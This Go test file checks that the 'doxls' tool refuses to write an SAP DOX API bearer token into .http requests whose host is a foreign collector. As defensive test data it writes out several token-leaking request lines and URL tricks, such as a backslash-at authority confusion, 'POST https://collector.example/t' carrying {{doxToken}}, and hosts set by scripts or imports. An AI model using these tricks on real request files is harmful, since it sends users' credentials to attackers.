package main

import (
	"encoding/json"
	"fmt"
	"os"
	"path/filepath"
	"slices"
	"strings"
	"testing"

	"github.com/doxls/doxls/auth/uaatest"
)

// A "\" ends the authority of an http(s) URL for httpyac (Node's URL), so
// http://<collector>\@<api>/… goes to the collector: doxls skips it, and
// httpyac run on the edited file proves the collector never gets the token
// (issue 12). The old reading took the host after the "@".
func TestBearerReadsBackslashAtAsClientsDo(t *testing.T) {
	emu, dir := keyDir(t)
	collector := startForeign(t)
	api := strings.TrimPrefix(emu.APIURL, "http://")
	trick := collector.URL + `\@` + api + "/document-information-extraction/v1/capabilities"
	src := "### The DOX API\nGET " + emu.APIURL + "/document-information-extraction/v1/capabilities\n\n" +
		"### Looks like the DOX API\nGET " + trick + "\n"
	path := writeFile(t, dir, "dox.http", []byte(src))

	res := runDoxls(t, dir, nil, "bearer", "--key", "dox-key.json", "dox.http")
	after, _ := os.ReadFile(path)
	token := tokenIn(t, after)
	want := fmt.Sprintf("dox.http: 1 edit(s)\ndox.http:5: skipped: foreign host %s\n", strings.TrimPrefix(collector.URL, "http://"))
	if res.code != 0 || res.stdout != want {
		t.Fatalf("doxls bearer: exit %d, stdout %q, stderr %q, want %q", res.code, hideToken(res.stdout, token), hideToken(res.stderr, token), want)
	}

	runHttpyac(t, dir, token, "dox.http", "--all", "--output", "none")
	// The "\" became the first "/" of the path the collector got.
	wantCollector := "GET /@" + api + "/document-information-extraction/v1/capabilities Authorization="
	if got := collector.requests(); !slices.Equal(got, []string{wantCollector}) {
		t.Errorf("the collector received %q, want %q", hideToken(strings.Join(got, "; "), token), wantCollector)
	}
	if got := apiCalls(emu); !slices.Equal(got, []string{"GET /document-information-extraction/v1/capabilities authorized=true"}) {
		t.Errorf("the DOX API stub received %q", got)
	}
}

// keyDir is a folder holding the emulator's key as dox-key.json.
func keyDir(t *testing.T) (*uaatest.Server, string) {
	t.Helper()
	emu := startUAA(t)
	dir := t.TempDir()
	writeFile(t, dir, "dox-key.json", emu.KeyJSON(uaatest.DefaultClient))
	return emu, dir
}

// keyWithHosts is the emulator's key with the API and the tenant UI on
// hosts of a real subaccount: the token comes from the emulator, the
// request file names the real hosts (nothing is sent to them).
func keyWithHosts(t *testing.T, emu *uaatest.Server, api, tenantUI string) []byte {
	t.Helper()
	var k map[string]any
	if err := json.Unmarshal(emu.KeyJSON(uaatest.DefaultClient), &k); err != nil {
		t.Fatal(err)
	}
	k["url"], k["tenantuiurl"] = api, tenantUI
	k["endpoints"] = map[string]any{"backend": map[string]any{"url": api, "timeout": 30000}}
	b, err := json.Marshal(k)
	if err != nil {
		t.Fatal(err)
	}
	return b
}

// The token goes only over https, to the API host and to the tenant UI
// host (SAP's Swagger UI lives there, and users copy its URLs): http:// and
// a URL without a scheme, which JetBrains sends over http,
// are skipped with the reason (issue 12, issue 15).
func TestBearerHTTPSOnlyAndTheTenantUIHost(t *testing.T) {
	emu := startUAA(t)
	dir := t.TempDir()
	api, ui := "aiservices-trial-dox.cfapps.us10.hana.ondemand.com", "mysub.eu10.doc.cloud.sap"
	writeFile(t, dir, "dox-key.json", keyWithHosts(t, emu, "https://"+api, "https://"+ui))
	src := "GET https://" + api + "/document-information-extraction/v1/capabilities\n\n###\n" +
		"GET https://" + ui + "/document-information-extraction/v1/capabilities\n\n###\n" +
		"GET http://" + api + "/document-information-extraction/v1/capabilities\n\n###\n" +
		"GET " + api + "/document-information-extraction/v1/capabilities\n"
	path := writeFile(t, dir, "dox.http", []byte(src))

	res := runDoxls(t, dir, nil, "bearer", "--key", "dox-key.json", "dox.http")
	after, _ := os.ReadFile(path)
	token := tokenIn(t, after)
	want := "dox.http: 2 edit(s)\n" +
		"dox.http:7: skipped: the URL is http://, the token would travel in clear text: write https://\n" +
		"dox.http:10: skipped: no https:// in the URL: HTTP clients disagree on where it goes (JetBrains sends it over plain http)\n"
	if res.code != 0 || res.stdout != want {
		t.Fatalf("doxls bearer: exit %d, stdout %q, stderr %q, want %q", res.code, hideToken(res.stdout, token), hideToken(res.stderr, token), want)
	}
	if n := strings.Count(string(after), "Authorization: Bearer "+token); n != 2 {
		t.Errorf("%d requests got the token, want the API's and the tenant UI's", n)
	}
}

// envFile mode on the command line: the token never goes into the
// environment file when a foreign request reads the same variable (issue
// 12: httpyac --env dev would send it there).
func TestBearerEnvFileRefusesATaintedVariable(t *testing.T) {
	emu, dir := keyDir(t)
	src := "GET " + emu.APIURL + "/document-information-extraction/v1/capabilities\nAuthorization: Bearer {{doxToken}}\n\n###\n" +
		"POST https://collector.example/t\nAuthorization: Bearer {{doxToken}}\n"
	path := writeFile(t, dir, "dox.http", []byte(src))

	res := runDoxls(t, dir, nil, "bearer", "--key", "dox-key.json", "--mode", "envFile", "dox.http")
	want := "dox.http: 0 edit(s)\n" +
		"dox.http:1: skipped: token variable {{doxToken}} is also sent to collector.example\n" +
		"dox.http:5: skipped: foreign host collector.example\n"
	if res.code != 0 || res.stdout != want {
		t.Errorf("doxls bearer --mode envFile: exit %d, stdout %q, stderr %q, want %q", res.code, res.stdout, res.stderr, want)
	}
	if _, err := os.Stat(filepath.Join(dir, "http-client.private.env.json")); !os.IsNotExist(err) {
		t.Errorf("the environment file was written (%v)", err)
	}
	if b, _ := os.ReadFile(path); string(b) != src {
		t.Error("the request file changed")
	}
}

// Another request file beside it reads the same environment file: the
// token does not go there either (clients look for the environment file
// from each request file's folder upwards).
func TestBearerEnvFileRefusesWhenAnotherFileReadsTheVariable(t *testing.T) {
	emu, dir := keyDir(t)
	src := "GET " + emu.APIURL + "/document-information-extraction/v1/capabilities\nAuthorization: Bearer {{doxToken}}\n"
	writeFile(t, dir, "dox.http", []byte(src))
	writeFile(t, dir, "tools/collect.http", []byte("POST https://collector.example/t\nX-Copy: {{doxToken}}\n"))

	res := runDoxls(t, dir, nil, "bearer", "--key", "dox-key.json", "--mode", "envFile", "dox.http")
	want := "dox.http: 0 edit(s)\ndox.http:1: skipped: token variable {{doxToken}} is also sent to collector.example by tools/collect.http\n"
	if res.code != 0 || res.stdout != want {
		t.Errorf("doxls bearer --mode envFile: exit %d, stdout %q, stderr %q, want %q", res.code, res.stdout, res.stderr, want)
	}
	if _, err := os.Stat(filepath.Join(dir, "http-client.private.env.json")); !os.IsNotExist(err) {
		t.Errorf("the environment file was written (%v)", err)
	}
}

// doxls init in envFile mode checks the request files that will share the
// environment file, too.
func TestInitEnvFileRefusesWhenAnotherFileReadsTheVariable(t *testing.T) {
	_, dir := keyDir(t)
	writeFile(t, dir, "requests/old/collect.http", []byte("POST https://collector.example/t\nAuthorization: Bearer {{doxToken}}\n"))

	res := runDoxls(t, dir, nil, "init", "requests", "--mode", "envFile")
	// The folder as the program sees it (macOS resolves /var to /private/var).
	want := string(filepath.Separator) + filepath.Join("requests", "http-client.private.env.json") +
		": token variable {{doxToken}} is also sent to collector.example by old/collect.http (docs/security.md)\n"
	if res.code != 1 || !strings.HasPrefix(res.stderr, "doxls: the token cannot go into ") || !strings.HasSuffix(res.stderr, want) || res.stdout != "" {
		t.Errorf("doxls init --mode envFile: exit %d, stdout %q, stderr %q, want exit 1 and %q", res.code, res.stdout, res.stderr, want)
	}
	if _, err := os.Stat(filepath.Join(dir, "requests", "http-client.private.env.json")); !os.IsNotExist(err) {
		t.Errorf("the environment file was written (%v)", err)
	}
}

// A host the file leaves to something doxls cannot resolve gets the token
// by the path rule only when one plain variable is the whole host or base
// URL. httpyac sends {{$processEnv UNSET}}http://<collector>/… and
// {{ "http://<collector>" }}/… (a JavaScript expression) to the collector
// in clear text; doxls wrote the token into both (review of issue 12).
func TestBearerLeavesHostsTheFileChooses(t *testing.T) {
	emu, dir := keyDir(t)
	collector := startForeign(t)
	dox := "/document-information-extraction/v1/capabilities"
	src := "### The DOX API\nGET " + emu.APIURL + dox + "\n\n" +
		"### A system variable that is empty\nGET {{$processEnv DOXLS_REVIEW_UNSET}}" + collector.URL + dox + "\n\n" +
		"### A script\nGET {{ \"" + collector.URL + "\" }}" + dox + "\n"
	path := writeFile(t, dir, "dox.http", []byte(src))

	res := runDoxls(t, dir, nil, "bearer", "--key", "dox-key.json", "dox.http")
	after, _ := os.ReadFile(path)
	token := tokenIn(t, after)
	const partly = ", which doxls cannot resolve: the token goes only where one plain variable is the whole host ({{host}}) or base URL ({{baseUrl}})\n"
	want := "dox.http: 1 edit(s)\n" +
		"dox.http:5: skipped: the host depends on {{$processEnv DOXLS_REVIEW_UNSET}}" + partly +
		"dox.http:8: skipped: the host depends on {{\"" + collector.URL + "\"}}" + partly
	if res.code != 0 || res.stdout != want {
		t.Fatalf("doxls bearer: exit %d, stdout %q, stderr %q, want %q", res.code, hideToken(res.stdout, token), hideToken(res.stderr, token), want)
	}

	runHttpyac(t, dir, token, "dox.http", "--all", "--output", "none")
	wantCollector := "GET " + dox + " Authorization="
	if got := collector.requests(); !slices.Equal(got, []string{wantCollector, wantCollector}) {
		t.Errorf("the collector received %q, want no token", hideToken(strings.Join(got, "; "), token))
	}
}

// httpyac runs every block without a request before each request, so a
// "@base" defined again in such a block below the request wins: doxls
// read the definition above and wrote the token, httpyac sent it to the
// collector (review of issue 12).
func TestBearerReadsVariablesDefinedTwiceAsClientsDo(t *testing.T) {
	emu, dir := keyDir(t)
	collector := startForeign(t)
	dox := "/document-information-extraction/v1/capabilities"
	src := "@base = " + emu.APIURL + "\n\n### The DOX API\nGET {{base}}" + dox + "\nAuthorization: Bearer " + staleToken + "\n\n###\n@base = " + collector.URL + "\n"
	path := writeFile(t, dir, "dox.http", []byte(src))

	res := runDoxls(t, dir, nil, "bearer", "--key", "dox-key.json", "dox.http")
	want := "dox.http: 0 edit(s)\ndox.http:4: skipped: a variable in the URL is defined more than once, and clients pick different definitions: with another, foreign host " +
		strings.TrimPrefix(collector.URL, "http://") + "\n"
	if res.code != 0 || res.stdout != want {
		t.Fatalf("doxls bearer: exit %d, stdout %q, stderr %q, want %q", res.code, res.stdout, res.stderr, want)
	}
	if after, _ := os.ReadFile(path); string(after) != src {
		t.Fatalf("the file changed")
	}
	// The request goes where doxls says: httpyac sends it to the collector.
	runHttpyac(t, dir, staleToken, "dox.http", "--all", "--output", "none")
	if got, want := collector.requests(), []string{"GET " + dox + " Authorization=Bearer " + staleToken}; !slices.Equal(got, want) {
		t.Errorf("the collector received %q, want %q", got, want)
	}
}

// httpyac lets a script block and a "# @import" set a variable over the
// file's own "@base", and a "# @loop" set one the file does not define
// (which the path rule let through): it sent the token doxls wrote to the
// collector each time. doxls now leaves a host that such a variable
// decides alone (review of issue 12).
func TestBearerLeavesHostsThatScriptsSet(t *testing.T) {
	dox := "/document-information-extraction/v1/capabilities"
	for _, tt := range []struct{ name, src string }{
		{"script", "{{\n  exports.base = '{collector}';\n}}\n\n###\nGET {{base}}" + dox + "\n"},
		{"loop", "###\n# @loop for base of ['{collector}']\nGET {{base}}" + dox + "\n"}, // no @base of the file's
		{"import", "###\n# @import ./vars.http\nGET {{base}}" + dox + "\n"},
	} {
		t.Run(tt.name, func(t *testing.T) {
			emu, dir := keyDir(t)
			collector := startForeign(t)
			writeFile(t, dir, "vars.http", []byte("@base = "+collector.URL+"\n"))
			src := strings.ReplaceAll(tt.src, "{collector}", collector.URL)
			if tt.name != "loop" {
				src = "@base = " + emu.APIURL + "\n\n" + src
			}
			writeFile(t, dir, "dox.http", []byte(src))

			res := runDoxls(t, dir, nil, "bearer", "--key", "dox-key.json", "dox.http")
			if res.code != 0 || !strings.Contains(res.stdout, "dox.http: 0 edit(s)\n") || !strings.Contains(res.stdout, "skipped: the host depends on {{base}}, which a script") {
				t.Fatalf("doxls bearer: exit %d, stdout %q, stderr %q", res.code, res.stdout, res.stderr)
			}
			// Where httpyac sends it: the stale token shows the way.
			writeFile(t, dir, "dox.http", []byte(strings.Replace(src, "GET {{base}}"+dox+"\n", "GET {{base}}"+dox+"\nAuthorization: Bearer "+staleToken+"\n", 1)))
			runHttpyac(t, dir, staleToken, "dox.http", "--all", "--output", "none")
			if got, want := collector.requests(), []string{"GET " + dox + " Authorization=Bearer " + staleToken}; !slices.Equal(got, want) {
				t.Errorf("the collector received %q, want %q", got, want)
			}
		})
	}
}
